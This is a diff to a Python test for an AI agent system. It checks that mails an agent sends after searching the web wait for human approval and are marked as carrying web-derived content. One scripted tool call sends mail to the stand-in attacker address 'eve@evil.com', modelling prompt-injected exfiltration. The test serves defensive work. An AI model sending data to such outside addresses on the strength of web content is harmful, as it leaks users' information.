@@ -7,6 +7,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from rest_framework.test import APIClient
 
 from agentsys.infrastructure.processes import wait_until
+from agentsys.runs import approvals
 from agentsys.runs.models import Run
 from tests.support.smtp import Smtp
 from tests.support.web import Web, answer
@@ -97,6 +98,11 @@ def test_the_web_is_searched_and_a_mail_is_sent_once(posted: Any, start: Any) ->
             {"key": "tell", "tool": "mail.send", "arguments": mail},
             {"key": "no", "tool": "mail.send", "arguments": mail | {"to": ["eve@evil.com"]}, "on_error": "continue"},
         )
+        assert wait_until(lambda: run.approvals.filter(decision="").count() == 2, timeout_s=20)
+        assert server.mails == []
+        for asked in run.approvals.all():  # what the web has said goes into no mail unasked
+            assert asked.tainted == {"subject": ["web"], "text": ["web"]}
+            approvals.approve(asked, user=None)
         run = ended(run)
 
     assert run.status == "succeeded", run.error
